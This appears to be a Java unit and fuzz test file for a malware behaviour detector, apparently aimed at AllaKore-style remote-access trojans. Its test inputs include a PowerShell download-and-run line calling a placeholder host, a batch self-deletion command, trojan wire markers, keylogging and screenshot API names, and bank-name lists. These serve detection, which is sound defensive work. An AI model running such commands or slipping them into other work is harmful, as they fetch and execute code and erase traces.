package org.atalaya.evidence.behaviour;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.junit.FuzzTest;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.atalaya.model.Content;
import org.atalaya.model.Fact;
import org.atalaya.model.Level;
import org.junit.jupiter.api.Test;

class BehavioursTest {
    @Test
    void aServiceIsFoundInEveryCaseAndWidthWithItsPlace() {
        for (String text : List.of("http://ip-api.com/json", "HTTP://IP-API.COM/JSON")) {
            assertThat(facts(text.getBytes(ISO_8859_1)))
                    .contains(Fact.at("behaviour.asks-geolocation", Level.MEDIUM, 7, 10, "ip-api.com"));
            assertThat(facts(text.getBytes(UTF_16LE)))
                    .contains(Fact.at("behaviour.asks-geolocation", Level.MEDIUM, 14, 20, "ip-api.com"));
            assertThat(codes(text.getBytes(UTF_16BE))).contains("behaviour.asks-geolocation");
        }
    }

    @Test
    void aNameWithinALongerNameIsAnother() {
        assertThat(codes("http://notip-api.com http://ip-api.community")).isEmpty();
    }

    @Test
    void everyTextOfTheCatalogueIsFoundAtEveryPlace() {
        Random random = new Random(7);
        for (Catalogue.Entry entry : Catalogue.SHIPPED.entries) {
            for (String form : List.of(entry.text(), entry.text().toUpperCase(Locale.ROOT))) {
                for (var charset : List.of(ISO_8859_1, UTF_16LE)) {
                    byte[] text = form.getBytes(charset);
                    int before = random.nextInt(12);
                    byte[] bytes = new byte[before + text.length + random.nextInt(9)];
                    System.arraycopy(text, 0, bytes, before, text.length);
                    List<Integer> places = new ArrayList<>();
                    Catalogue.SHIPPED.literals.find(bytes, 0, bytes.length, bytes.length, (number, place, wide) -> {
                        if (Catalogue.SHIPPED.entries.get(number) == entry) {
                            places.add(place);
                        }
                    });
                    assertThat(places).as(form).contains(before);
                }
            }
        }
    }

    @Test
    void whatLiesInAFileIsReadByTheBlockWithTheSameResult() {
        byte[] bytes = new byte[(3 << 20) + 77];
        put(bytes, (1 << 20) - 4, "<|MAINSOCKET|>");
        put(bytes, (2 << 20) - 3, "ipinfo.io");
        put(bytes, (2 << 20) + 5000, "<|MENSAJE");
        assertThat(facts(new InBlocks(bytes))).isEqualTo(facts(bytes)).hasSize(4);
    }

    @Test
    void theFamilysMarkerAloneSaysNothingOfALanguage() {
        List<Fact> facts = facts("<|MAINSOCKET|>\0<|FINDID|>\0".getBytes(ISO_8859_1));
        assertThat(facts).extracting(Fact::code).containsExactly("behaviour.wire-verbs", "behaviour.allakore-markers");
    }

    @Test
    void spanishVerbsAreToldFromPortugueseOnes() {
        assertThat(codes("<|MAINSOCKET|>\0<|TRABAR\0<|DESTRABA\0"))
                .contains("behaviour.spanish-verbs")
                .doesNotContain("behaviour.portuguese-verbs");
        assertThat(codes("<|MAINSOCKET|>\0<|SENHA|>\0<|NOSenha|>\0"))
                .contains("behaviour.portuguese-verbs")
                .doesNotContain("behaviour.spanish-verbs");
    }

    @Test
    void verbsInUtf16AreReadWithoutTheirEnd() {
        byte[] bytes = new byte[200];
        put(bytes, 0, "<|MAINSOCKET|>");
        byte[] wide = "<|MENSAJE".getBytes(UTF_16LE);
        System.arraycopy(wide, 0, bytes, 41, wide.length);
        assertThat(facts(bytes)).contains(Fact.at("behaviour.spanish-verbs", Level.HIGH, 41, 18, "MENSAJE"));
    }

    @Test
    void theMarksOfALanguageModelAndThePipesOfALanguageAreNoVerbs() {
        assertThat(codes("<|endoftext|> <|im_start|> <|SYSTEM|> <|USER|>")).isEmpty();
        assertThat(codes("let x = f <| g <|h |> k")).isEmpty();
    }

    @Test
    void aScriptThatDownloadsAndRunsIsSaidToDoBoth() {
        assertThat(codes("(New-Object Net.WebClient).DownloadFile('http://x.test/a','a.txt'); Start-Process a.txt"))
                .contains("behaviour.downloads-and-runs");
        assertThat(codes("Invoke-WebRequest http://x.test" + " ".repeat(9000) + "Start-Process notepad"))
                .isEmpty();
    }

    @Test
    void waitingAndDeletingMakeCleaningUp() {
        assertThat(codes("ping 127.0.0.1 -n 3 > nul & del \"%~f0\"")).contains("behaviour.cleans-up");
        assertThat(codes("Remove-Item $MyInvocation.MyCommand.Path -Force")).contains("behaviour.cleans-up");
        assertThat(codes("Remove-Item old.log")).isEmpty();
    }

    @Test
    void aTableOfTheWorldIsNoCheckOfAPlace() {
        assertThat(codes("GetUserDefaultLCID\0es-MX\0")).contains("behaviour.checks-place");
        assertThat(codes("GetUserDefaultLCID\0es-MX\0de-DE\0fr-FR\0ja-JP")).isEmpty();
    }

    @Test
    void banksCountWhenThreeStandTogether() {
        assertThat(codes("BBVA\0Banamex\0Banorte\0")).contains("behaviour.names-banks");
        assertThat(codes("BBVA\0" + "x".repeat(5000) + "Banamex\0" + "x".repeat(5000) + "Banorte"))
                .isEmpty();
        assertThat(codes("BBVA BBVA BBVA")).isEmpty();
    }

    @Test
    void theHandsOfARemoteControlAreNamedTogether() {
        assertThat(
                        codes(
                                "BitBlt\0GetDesktopWindow\0mouse_event\0ws2_32.dll\0GetAsyncKeyState\0GetKeyState\0MapVirtualKeyA"))
                .contains("behaviour.remote-control", "behaviour.logs-keys", "behaviour.takes-screenshots");
    }

    @FuzzTest
    void anyBytesGiveFactsWithinThem(byte[] data) {
        for (Fact fact : facts(data)) {
            assertThat(fact.offset()).isNotNegative();
            assertThat(fact.offset() + fact.length()).isLessThanOrEqualTo(data.length);
        }
        assertThat(facts(new InBlocks(data))).isEqualTo(facts(data));
    }

    private static void put(byte[] bytes, int at, String text) {
        System.arraycopy(text.getBytes(ISO_8859_1), 0, bytes, at, text.length());
    }

    private static List<Fact> facts(byte[] bytes) {
        return facts(Content.of(bytes));
    }

    private static List<Fact> facts(Content content) {
        List<Fact> facts = new ArrayList<>();
        Behaviours.find(content, facts::add);
        return facts;
    }

    private static List<String> codes(String text) {
        return codes(text.getBytes(ISO_8859_1));
    }

    private static List<String> codes(byte[] bytes) {
        return facts(bytes).stream().map(Fact::code).toList();
    }
}
